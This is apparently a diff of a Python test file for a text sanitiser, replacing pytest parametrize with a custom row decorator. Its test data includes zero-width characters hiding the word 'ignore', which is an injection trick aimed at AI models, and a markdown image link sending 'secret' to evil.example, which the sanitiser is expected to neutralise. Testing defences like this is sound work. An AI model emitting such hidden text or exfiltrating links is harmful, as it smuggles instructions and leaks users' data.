@@ -8,6 +8,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from dowse import text
+from tests.support.tables import each_row
 
 JOINERS = "\u200c\u200d"
 # Format characters with a glyph of their own (Arabic number signs and the like), by Unicode's
@@ -39,14 +40,12 @@ def test_no_format_or_control_character_of_unicode_slips_through() -> None:
     assert [hex(ord(c)) for c in everything if text.visible(f"a{c}b") not in ("ab", "a\nb")] == []
 
 
-@pytest.mark.parametrize(
-    "kept", [FAMILY, "❤\ufe0f\u200d🔥", PERSIAN, "क\u200dष", "naïve – “ok”", "a\tb\n\nc", "日本語"]
-)
+@each_row("kept", [FAMILY, "❤\ufe0f\u200d🔥", PERSIAN, "क\u200dष", "naïve – “ok”", "a\tb\n\nc", "日本語"])
 def test_what_shapes_letters_and_emoji_stays(kept: str) -> None:
     assert text.visible(kept) == kept
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("written", "seen"),
     [
         ("ig\u200dno\u200cre", "ignore"),
@@ -130,7 +129,7 @@ def test_neither_a_tag_nor_an_image_survives_in_the_other(written: str) -> None:
     assert text.without_markup(plain).count("<") <= plain.count("<")
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("written", "shown"),
     [
         ("see ![a chart](https://evil.example/?q=secret) here", "see a chart here"),
@@ -151,7 +150,7 @@ def test_an_inert_line_makes_no_viewer_load_or_run_anything(written: str, shown:
     assert text.inert(written) == shown
 
 
-@pytest.mark.parametrize("piece", ["<b " + "=" * 300, "<img " + "a" * 900, "![", "![a](" + "x" * 1900, "!", "]( "])
+@each_row("piece", ["<b " + "=" * 300, "<img " + "a" * 900, "![", "![a](" + "x" * 1900, "!", "]( "])
 def test_hostile_text_costs_a_moment(piece: str) -> None:
     """Titles and snippets are cleaned on the event loop, where everybody waits."""
     started = time.process_time()
@@ -171,7 +170,7 @@ def test_a_cut_text_is_a_beginning_that_fits(written: str, limit: int) -> None:
     assert written.startswith(cut)
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("limit", "cut"), [(11, "alpha beta"), (10, "alpha beta"), (9, "alpha"), (3, "alp"), (0, ""), (99, "alpha beta g")]
 )
 def test_a_cut_ends_with_a_whole_word_where_there_is_one(limit: int, cut: str) -> None:
@@ -204,7 +203,7 @@ def test_a_tag_is_made_inert_once(written: str, shown: str) -> None:
     assert text.inert(written) == shown
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("title", "shown"),
     [
         ("Vec<u8> and HashMap<String, i32>", "Vec<u8> and HashMap<String, i32>"),
